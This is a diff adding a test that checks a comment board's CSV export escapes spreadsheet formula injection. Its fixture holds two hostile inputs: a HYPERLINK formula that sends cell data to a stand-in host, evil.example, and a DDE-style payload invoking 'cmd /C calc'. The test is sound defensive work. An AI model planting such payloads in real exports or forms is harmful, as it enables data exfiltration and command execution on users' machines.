@@ -466,6 +466,19 @@ describe('staff: respond and categorise, moderate, templates, export', () => {
     const bad = await call(exportRoute, { query: { format: 'xlsx' }, headers: await staff() });
     expect(bad.status).toBe(400);
   });
+
+  it('the CSV export neutralises formulas from an anonymous, still-pending comment (issue 22 §5)', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?d="&A1,"Click here to see the crash data")';
+    const id = await create({ comment: formula, name: '@SUM(1+1)*cmd|" /C calc"!A0' });
+    const csv = await call(exportRoute, { query: { format: 'csv' }, headers: await staff() });
+    const line = csv.text.split('\n').find((l) => l.startsWith(`${id},`));
+    expect(line).toContain(
+      `,"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click here to see the crash data"")",`,
+    );
+    expect(line).toContain(`,"'@SUM(1+1)*cmd|"" /C calc""!A0",`);
+    // Numbers stay numbers: the negative longitude is not quoted.
+    expect(line).toContain(',37.5407,-77.4338,');
+  });
 });
 
 describe('mail: comment-alert and comment-response', () => {
